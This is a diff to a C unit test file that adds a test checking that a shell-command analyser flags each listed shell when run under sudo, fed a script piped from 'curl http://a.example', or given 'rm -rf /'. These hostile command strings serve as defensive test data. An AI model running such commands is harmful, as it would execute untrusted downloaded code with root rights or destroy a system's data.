@@ -507,6 +507,29 @@ static void starters_are_followed(void **state)
 	}
 }
 
+/* All of them run text, in a pipe as well, and as root they are a shell of root. */
+static void shells_are_one_list(void **state)
+{
+	struct str rest = STR(SHELLS), name;
+
+	(void)state;
+	while (str_split(&rest, ' ', &name)) {
+		AUTO(arena_done) struct arena a = { 0 };
+		struct effects e = { .arena = &a, .world = &world };
+		bool root = false, fetched = false;
+
+		effects_of_shell(&e, arena_printf(&a, "sudo %.*s; curl http://a.example | %.*s",
+						  STR_ARG(name), STR_ARG(name)));
+		for (size_t i = 0; i < e.n; i++) {
+			root |= e.p[i].kind == EFFECT_PRIVILEGES && e.p[i].forced;
+			fetched |= e.p[i].kind == EFFECT_RUN_FETCHED;
+		}
+		if (!root || !fetched ||
+		    !deletes_root(&a, arena_printf(&a, "%.*s -c 'rm -rf /'", STR_ARG(name))))
+			fail_msg("%.*s", STR_ARG(name));
+	}
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
@@ -516,6 +539,7 @@ int main(void)
 		cmocka_unit_test(long_input_is_unknown),
 		cmocka_unit_test(nothing_hides_in_brackets),
 		cmocka_unit_test(starters_are_followed),
+		cmocka_unit_test(shells_are_one_list),
 	};
 
 	return cmocka_run_group_tests(tests, NULL, NULL);
